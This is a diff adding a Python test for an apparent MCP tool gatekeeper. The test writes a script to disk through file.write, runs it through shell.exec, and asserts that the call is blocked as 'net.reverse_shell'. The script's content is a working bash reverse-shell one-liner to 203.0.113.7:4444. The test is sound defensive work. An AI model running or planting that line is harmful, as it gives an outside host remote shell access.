@@ -194,3 +194,17 @@ async def test_a_tool_answer_over_the_limit_is_an_error_not_a_partial_answer(
                     await client.call_tool("file.read", {"path": "big.txt"})
     assert not small.is_error and not written.is_error  # answers under the limit pass untouched
     assert "larger than the configured limit" in str(refused.value)
+
+
+async def test_code_written_through_mcp_is_inherited_when_run_through_mcp(stack: Stack) -> None:
+    """The written-code stages are in the shared decision stages: file.write records, shell.exec inherits."""
+    content = "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"
+    async with _bearer(mint(stack.gk)) as http, stack.client(http) as client:
+        written = await client.call_tool("file.write", {"path": "tools/r.sh", "content": content})
+        assert not written.is_error
+        result = await client.call_tool("shell.exec", {"cmd": "sh tools/r.sh"})
+    assert result.is_error and result.meta is not None
+    meta = result.meta["gatekeeper/decision"]
+    assert meta["capability"] == "net.reverse_shell"
+    block = result.content[0]
+    assert isinstance(block, TextContent) and "/workspace/tools/r.sh" in block.text
